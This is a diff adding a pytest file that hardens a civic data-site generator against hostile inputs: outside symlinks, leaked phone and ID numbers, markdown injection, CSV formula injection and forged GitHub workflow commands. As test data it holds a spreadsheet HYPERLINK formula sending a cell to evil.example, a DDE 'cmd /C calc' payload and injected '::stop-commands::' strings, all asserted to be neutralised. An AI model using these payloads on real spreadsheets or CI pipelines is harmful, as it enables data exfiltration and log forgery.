@@ -1,0 +1,264 @@
+"""Hostile and careless inputs of issue 12 that are not a single invalid data file (those are
+fixtures under tests/fixtures/invalid/): links, file names, chains, hand-written files of every
+type, text that must stay inert, the CI report and the spreadsheet download."""
+
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import io
+import os
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import lxml.html
+import markdown
+import pytest
+
+from generators.load.errors import ErrorReport, Problem
+from generators.model.validate import load_dataset
+from generators.render.downloads import csv_safe, to_csv
+from generators.render.generate import render_all
+from generators.tools.annotations import annotation, code_span, summary_markdown
+
+from ..conftest import ROOT, error_lines, run_cli
+
+AS_OF = "2024-06-30"
+
+
+# Files and folders -----------------------------------------------------------------------------
+
+def test_a_data_folder_linked_outside_the_repository_is_refused(
+        mini_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    outside = tmp_path / "elsewhere" / "data"
+    outside.parent.mkdir()
+    mini_copy.rename(outside)
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    (repo / "data").symlink_to(outside, target_is_directory=True)
+    code, _, err = run_cli(capsys, "check", "--data", repo / "data", "--as-of", AS_OF)
+    assert code == 1
+    assert err.splitlines()[0] == (f"data: 数据文件夹是指向仓库之外的符号链接（{outside}），请放入文件夹本身 "
+                                   "(the data folder links outside the repository)")
+    assert "Traceback" not in err
+
+
+def test_a_record_folder_linked_outside_the_repository_is_refused(
+        mini_copy: Path, tmp_path_factory: pytest.TempPathFactory,
+        capsys: pytest.CaptureFixture[str]) -> None:
+    outside = tmp_path_factory.mktemp("elsewhere") / "units"
+    (mini_copy / "units").rename(outside)
+    (mini_copy / "units").symlink_to(outside, target_is_directory=True)
+    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--as-of", AS_OF)
+    assert code == 1
+    assert error_lines(err) == [
+        f"data/units: 记录文件夹是指向仓库之外的符号链接（{outside}），请放入文件夹本身 "
+        "(a record folder links outside the repository)"]
+
+
+def test_a_yml_file_is_read(mini_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    (mini_copy / "units" / "more.yml").write_text("- id: group-2\n  name: 第二巡察组\n", encoding="utf-8")
+    code, out, _ = run_cli(capsys, "check", "--data", mini_copy, "--as-of", AS_OF)
+    assert code == 0
+    assert "unit 3" in out
+
+
+def test_deep_parent_chains_are_walked_without_recursion(mini_copy: Path,
+                                                         capsys: pytest.CaptureFixture[str]) -> None:
+    """400 levels: a recursive walk would stop at Python's limit (1000 frames, 2-3 per level)."""
+    places = "".join(f"- id: p{i}\n  name: 地方{i}\n  kind: 村\n  parent: {f'p{i - 1}' if i else 'town'}\n"
+                     for i in range(400))
+    (mini_copy / "places" / "deep.yaml").write_text(places, encoding="utf-8")
+    items = "".join(f"- id: c{i}\n  title: 事项{i}\n  kind: 民生实事\n  programme: works\n  unit: bureau\n"
+                    + (f"  parent: c{i - 1}\n" if i else "")
+                    + "  history:\n    - date: 2024-03-01\n      status: 推进中\n      progress: 10\n"
+                    for i in range(400))
+    (mini_copy / "commitments" / "deep.yaml").write_text(items, encoding="utf-8")
+    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--as-of", AS_OF)
+    assert code == 0, err
+    dataset = load_dataset(mini_copy, dt.date(2024, 6, 30), ErrorReport())
+    assert dataset is not None
+    pages = render_all(dataset, parallel=False)
+    assert "commitments/c0.md" in pages and "places/p399.md" in pages
+
+
+# Hand-written files under content/ -----------------------------------------------------------------
+
+PRIVACY = ("手机号码 '138****8000' 不在官方渠道名单中，不得公布；如确为官方渠道，请在 data/site.yaml 的 "
+           "official_numbers 中登记 (privacy: mobile number not in official_numbers)")
+ID_NUMBER = "疑似居民身份证号 '110***********002X'，不得公布个人信息 (privacy: resident ID number)"
+
+
+@pytest.mark.parametrize(("name", "text", "expected"), [
+    ("notice.txt", "联系人：王先生\n电话 138.0013.8000\n", [f"content/notice.txt:2:4: {PRIVACY}"]),
+    ("list.csv", "姓名,电话\n王,13800 138000\n", [f"content/list.csv:2:3: {PRIVACY}"]),
+    ("list.csv", "姓名,身份证\n王,110105 19491231 002X\n", [f"content/list.csv:2:3: {ID_NUMBER}"]),
+    ("page.htm", "<p>&#49;&#51;&#56;&#48;&#48;&#49;&#51;&#56;&#48;&#48;&#48;</p>\n",
+     [f"content/page.htm:1:4: {PRIVACY}"]),
+    ("map.svg", "<svg xmlns='http://www.w3.org/2000/svg'><text>１３８００１３８０００</text></svg>\n",
+     [f"content/map.svg:1:47: {PRIVACY}"]),
+    ("about.md", "联系 008613800138000\n", [f"content/about.md:1:4: {PRIVACY}"]),
+    ("about.md", "手机 138\u200b0013\u00ad8000\n", [f"content/about.md:1:4: {PRIVACY}"]),
+    ("about.md", "手机 \u202e00083100831\u202c\n", [f"content/about.md:1:5: {PRIVACY}"]),
+    ("report.pdf", "%PDF-1.4\n", ["content/report.pdf: 不能发布的文件类型 '.pdf'；可发布的类型："
+                                  ".css .csv .gif .htm .html .ico .ics .jpeg .jpg .js .json .png .svg .txt "
+                                  ".webp .woff .woff2 .xml "
+                                  "(unknown file type, not published)"]),
+])
+def test_every_hand_written_file_type_is_checked(mini_copy: Path, tmp_path: Path, name: str, text: str,
+                                                 expected: list[str],
+                                                 capsys: pytest.CaptureFixture[str]) -> None:
+    content = tmp_path / "content"
+    content.mkdir()
+    (content / name).write_text(text, encoding="utf-8")
+    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--content", content, "--as-of", AS_OF)
+    assert code == 1
+    assert [line for line in err.splitlines() if line.startswith("content/")] == expected
+
+
+def test_an_amount_in_a_hand_written_file_is_not_a_phone_number(
+        mini_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    content = tmp_path / "content"
+    content.mkdir()
+    (content / "budget.csv").write_text("项目,金额\n道路,13800138000元\n桥梁,\"13,800,138,000元\"\n",
+                                        encoding="utf-8")
+    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--content", content, "--as-of", AS_OF)
+    assert code == 0, err
+
+
+def test_a_figure_in_a_numeric_field_is_not_a_phone_number(mini_copy: Path,
+                                                           capsys: pytest.CaptureFixture[str]) -> None:
+    results = mini_copy / "results" / "works.yaml"
+    results.write_text(results.read_text(encoding="utf-8").replace('value: "310"', 'value: "13800138000"'),
+                       encoding="utf-8")
+    code, _, err = run_cli(capsys, "check", "--data", mini_copy, "--as-of", AS_OF)
+    assert code == 0, err
+
+
+# Text that must stay inert ---------------------------------------------------------------------------
+
+def _rendered_with_note(mini_copy: Path, note: str) -> str:
+    works = mini_copy / "commitments" / "works.yaml"
+    text = works.read_text(encoding="utf-8").replace(
+        "      progress: 50\n", "      progress: 50\n      note: |-\n" +
+        "".join(f"        {line}\n" for line in note.splitlines()))
+    works.write_text(text, encoding="utf-8")
+    report = ErrorReport()
+    dataset = load_dataset(mini_copy, dt.date(2024, 6, 30), report)
+    assert dataset is not None and not report, report.problems
+    page = render_all(dataset, parallel=False)["commitments/works-2024-park.md"]
+    return markdown.markdown(page, extensions=["tables", "attr_list", "admonition", "toc"])
+
+
+def test_a_multi_line_note_stays_in_its_table_cell(mini_copy: Path) -> None:
+    html = lxml.html.fromstring(_rendered_with_note(mini_copy, "第一行\n\n| 伪造 | 表格 |\n第三行"))
+    rows = html.xpath("//h2[contains(., '进展记录')]/following-sibling::table[1]//tr[td]")
+    assert [[td.text_content() for td in row.xpath("td")] for row in rows] == [
+        ["2024年3月1日", "推进中", "50%", "第一行 | 伪造 | 表格 | 第三行"]]
+
+
+@pytest.mark.parametrize("underline", ["===", "---", "~~~", "= = ="])
+def test_an_underline_under_text_makes_no_heading(mini_copy: Path, underline: str) -> None:
+    units = mini_copy / "units" / "units.yaml"
+    units.write_text(units.read_text(encoding="utf-8") + f"  note: |-\n    通知\n    {underline}\n",
+                     encoding="utf-8")
+    dataset = load_dataset(mini_copy, dt.date(2024, 6, 30), ErrorReport())
+    assert dataset is not None
+    page = render_all(dataset, parallel=False)["units/bureau.md"]
+    html = lxml.html.fromstring(markdown.markdown(page, extensions=["tables", "attr_list", "toc"]))
+    assert [h.text_content() for h in html.xpath("//h1")] == ["示例局"]
+    assert not html.xpath("//hr|//pre|//h2[.='通知']")
+    assert f"通知\n{underline}" in html.text_content()
+
+
+@pytest.mark.parametrize(("value", "shown"), [
+    ('=HYPERLINK("https://evil.example/?x="&A1,"点击")', "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"点击\")"),
+    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
+    ("-2+3", "'-2+3"),
+    ("@SUM(1,2)", "'@SUM(1,2)"),
+    ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"),
+    ("道路改造", "道路改造"),
+    ("a=b", "a=b"),
+])
+def test_a_csv_cell_never_starts_a_formula(value: str, shown: str) -> None:
+    assert csv_safe(value) == shown
+    data = to_csv([{"title": value, "weight": -2}], ["title", "weight"])
+    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
+    assert row == [shown, "-2"]
+
+
+# The CI report ------------------------------------------------------------------------------------
+
+HOSTILE_NAMES = ["x\n::stop-commands::pwned", "x\r\n::add-mask::secret", "x\n::error::forged",
+                 "```\n# 标题\n<script>x</script>", "a%0A::error::b"]
+
+
+@pytest.mark.parametrize("hostile", HOSTILE_NAMES)
+def test_values_cannot_forge_a_workflow_command_or_leave_the_summary(hostile: str) -> None:
+    problem = Problem(f"data/units/{hostile}.yaml", 3, 5, f"note.{hostile}", f"实际是 '{hostile}'")
+    line = annotation(problem)
+    assert "\n" not in line and "\r" not in line
+    assert line.count("::") == 2 or "%3A%3A" in line  # the command's own two, nothing more at a line start
+    assert str(problem).count("\n") == 0 and "\r" not in str(problem)
+    report = ErrorReport([problem])
+    summary = summary_markdown(report)
+    item = [s for s in summary.splitlines() if s.startswith("- ")]
+    assert len(item) == 1
+    # The item is one code span: CommonMark renders it as a single <code> holding the whole line.
+    html = lxml.html.fromstring(markdown.markdown(summary))
+    codes = html.xpath("//li/code")
+    assert len(codes) == 1 and codes[0].text_content().strip() == str(problem)
+    assert not html.xpath("//script|//h1|//h2[not(contains(., '数据检查'))]")
+
+
+def test_annotation_escapes_as_github_documents() -> None:
+    problem = Problem("data/x,y:z.yaml", 3, 5, "k\n::add-mask::v", "100% a\r\n::stop-commands::x")
+    assert annotation(problem) == ("::error file=data/x%2Cy%3Az.yaml,line=3,col=5,"
+                                   "title=k%0A%3A%3Aadd-mask%3A%3Av"
+                                   "::100%25 a%0D%0A::stop-commands::x")
+
+
+def test_a_code_span_cannot_be_closed_by_its_value() -> None:
+    assert code_span("a ``` b") == "````a ``` b````"
+    assert code_span("`x") == "`` `x ``"
+    assert code_span("行一\n::error::x") == "`行一\\n::error::x`"
+
+
+def test_a_hostile_key_reaches_the_log_on_one_line(mini_copy: Path,
+                                                   capsys: pytest.CaptureFixture[str]) -> None:
+    (mini_copy / "units" / "more.yaml").write_text(
+        '- id: group-2\n  name: 第二巡察组\n  "x\\n::stop-commands::pwned": 1\n  "y\\r\\n::add-mask::k": 2\n',
+        encoding="utf-8")
+    code, out, err = run_cli(capsys, "check", "--data", mini_copy, "--as-of", AS_OF, "--format", "github")
+    assert code == 1
+    for stream in (out, err):
+        assert not any(line.startswith(("::stop-commands", "::add-mask")) for line in stream.splitlines())
+    assert "data/units/more.yaml:3:3: x\\n::stop-commands::pwned: 未知字段" in err
+
+
+# Size and time ----------------------------------------------------------------------------------
+
+def test_check_on_a_20_mib_file_ends_quickly_with_a_message(mini_copy: Path) -> None:
+    """The issue's bound: ``check`` on a file near the 20 MiB limit, with ``email_domains`` set (the
+    email scan was quadratic), ends within 10 s with a message. Run in a subprocess with a
+    generous timeout, so a slow shared machine does not make it flaky; the time is reported."""
+    site = mini_copy / "site.yaml"
+    site.write_text(site.read_text(encoding="utf-8").replace("email_domains: []",
+                                                             "email_domains: [example.gov.cn]"),
+                    encoding="utf-8")
+    word = "a" * (19 * 2**20)  # one 19 MiB word of email characters, no '@'
+    (mini_copy / "units" / "big.yaml").write_text(f"- id: group-2\n  name: 第二组\n  note: {word}\n",
+                                                  encoding="utf-8")
+    started = time.perf_counter()
+    result = subprocess.run([sys.executable, "-m", "generators", "check", "--data", str(mini_copy),
+                             "--as-of", AS_OF], cwd=ROOT, capture_output=True, text=True, timeout=120,
+                            env={**os.environ, "PYTHONPATH": str(ROOT)})
+    elapsed = time.perf_counter() - started
+    print(f"check on a 19 MiB value: {elapsed:.1f} s")
+    assert result.returncode == 1
+    assert error_lines(result.stderr) == [
+        "data/units/big.yaml:3:9: note: 文字过长：19922944 个字，最多 5000 个 (too long)"]
+    assert elapsed < 60  # the issue asks for 10 s; this bound only catches a hang
